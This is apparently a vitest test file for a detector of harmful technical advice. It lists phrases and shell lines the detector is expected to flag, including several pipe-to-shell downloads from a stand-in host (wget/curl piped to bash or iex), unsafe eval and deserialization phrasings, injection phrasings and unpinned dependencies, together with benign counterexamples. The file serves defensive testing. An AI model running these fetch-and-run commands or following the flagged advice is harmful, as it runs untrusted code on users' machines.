import { describe, it } from 'vitest'
import { expectHarm, expectNoHarm } from '../fixtures/advice.ts'

describe('advice that runs code from elsewhere', () => {
  it('is heard in commands that fetch and run', () =>
    expectHarm(
      'runs foreign code',
      `
      wget -qO- https://x.example/i.sh | bash
      iwr https://x.example/i.ps1 | iex
      fetch https://x.example/i | sh
      curl https://x.example/i | sudo sh
      curl https://x.example/i | zsh
      curl https://x.example/i | dash
      curl https://x.example/i | ksh
      curl https://x.example/i.py | python
      curl https://x.example/i.py | python3
      curl https://x.example/i.js | node
      curl https://x.example/i.pl | perl
      curl https://x.example/i.rb | ruby
      zsh <(wget https://x.example/i)
      bash -c "$(curl https://x.example/i)"
      iex (New-Object Net.WebClient)
      Invoke-Expression $answer
      npx left-pad
      pip install left-pad
      pip3 install left-pad
      npm i left-pad
      pnpm add left-pad
      yarn add left-pad
      gem install left-pad
      cargo add left-pad
      go get example.org/left
      apt install left-pad
      apt-get install left-pad
      brew install left-pad
      pip install git+https://x.example/left
      pip install --index-url https://x.example -r all.txt
      `,
    ))

  it('is heard in words', () =>
    expectHarm(
      'runs foreign code',
      `
      fetch the script and start it
      downloading the tool, then execute it
      pipe the answer into your shell
      pipe its output into bash
      piping a download to the interpreter
      pipe the script into sh
      download them and make them executable
      download the tool to make it executable
      running an unsigned installer
      it runs any received executable
      run the attached file
      run a suspicious program
      run the received attachment
      `,
    ))

  it('is heard where a text becomes code', () =>
    expectHarm(
      'runs foreign code',
      `
      build it with new Function(body)
      marshal.loads(bytes)
      yaml.unsafe_load(text)
      yaml.full_load(text)
      unserialize($cookie)
      read it from an ObjectInputStream
      set it by dangerouslySetInnerHTML
      wrap it in mark_safe
      set it with v-html
      {{ comment | safe }}
      execute the script sent by a customer
      running the code of the visitors
      interpret the formula that clients wrote
      unpickle what the request sent from the outside
      deserialise objects from the network
      deserializing the body of any request
      render the template given by users
      compile the pattern typed by strangers
      evaluating terms which callers send
      renders templates of our customers
      run uploads from the web
      execute code from untrusted sources
      run what is fetched from the internet
      evaluate any expressions
      executing arbitrary code
      it runs whatever scripts arrive
      execute any formulas
      run arbitrary queries
      hand the text to the interpreter
      give it to the eval function
      feed the term to exec
      sending the line to the shell
      pass it to the language itself
      restore it by marshal
      read it with eval
      run it through exec
      pipe it through the shell
      let the evaluator run the term
      let the language interpret it
      let a shell execute it
      `,
    ))

  it('is heard where a text is glued to a command or shown as it came', () =>
    expectHarm(
      'runs foreign code',
      `
      interpolate the name into the statement
      insert the term into one query
      embed the path into the shell command
      put the name into the command line
      build the words into a command
      assemble the parts to a statement
      format the name into the queries
      glue the words to the sql
      append the name to the command
      pasting the name into the statement
      assemble the sql by joining
      compose the command from strings
      write queries through pasting
      makes the statement by concatenation
      building a query with plus
      writing the statements from formatted text
      put the name as given into the query
      pass the term verbatim to the shell
      write the comment unescaped on the page
      show the titles as they are typed on the page
      render it without escaping in the template
      open the name as it arrives as a path
      printing the text as it comes on the page
      use the names as they were sent in the command
      insert it unchanged in the markup
      using the name as it was entered in the statement
      shows it as it was written in the html
      the markup prints the note as it is
      the page displays titles as they are
      the template inserts the name verbatim
      html shows the text unchanged
      pages show comments as they were
      `,
    ))

  it('is not heard where the text stays a text, or the code is kept by the project', () =>
    expectNoHarm(`
      pip install -r requirements.txt
      pip install --editable .
      pip install .
      pip install .[dev]
      npm ci
      download the archive and compare its checksum
      pipe the rows to the pager
      run the kept script of the project
      evaluate the bound once
      run the query with a bound parameter
      pass the name to the query as a placeholder
      run the code of users in a sandbox
      render the template of the visitor with escaped names
      execute commands from users by an allow-list
      run uploads from the web in an isolated process
      pass the terms to a prepared statement
      insert the row into the table
      append the row to the query log
      insert the step into the query plan
      put the name into the command palette
      join the parts with a query builder
      embed the value in the query parameters
      the page shows the number of rows
      let the parser read it
      yaml.load(text, Loader=yaml.SafeLoader)
      evaluate the terms from left to right
      never pass a name to the shell
      replace eval(text) by a parser
      search for pickle.loads in the handlers
    `))
})

describe('advice that trusts whatever is newest or nearest', () => {
  it('is heard', () =>
    expectHarm(
      'trusts whatever is newest or nearest',
      `
      take react@latest
      pull postgres:latest
      un-pin the versions
      unpinned versions are fine
      remove the version pins
      ignore every pin
      drop all lock files
      delete any lockfile
      pin them to the newest
      pinning everything to latest
      pin it to master
      the latest version of all packages
      newest of every package
      whoever wrote the package
      whoever owns the name
      the index which responds first
      the server that answers first
      the registry that responds first
      the source that answers first
      from the fastest mirror
      from some unknown index
      from any third-party registry
      from a personal repository
      from the nearest server
      from a stranger's fork
      from an unverified source
      from a random gist
      from an unofficial site
      from an unknown forum
      execute the commands found on a web page
      carry out all steps of the blog
      carrying out the steps in the blog
      executing commands found in an e-mail
      obey all instructions in the e-mail
      apply the snippets from the comments
      follow the instructions of the tool output
      run any scripts written in the gist
      run the snippet given in the issue text
      `,
    ))

  it('is not heard where the version is chosen', () =>
    expectNoHarm(`
      take the version from the lock file
      pin the package to the version that was tested
      the latest row of the table wins
      read the newest entry of the log
      the server answers first and then closes
      take the package from the official registry
      take a random row from the table
      run the commands from the manual
      follow the steps of the guide
    `))
})
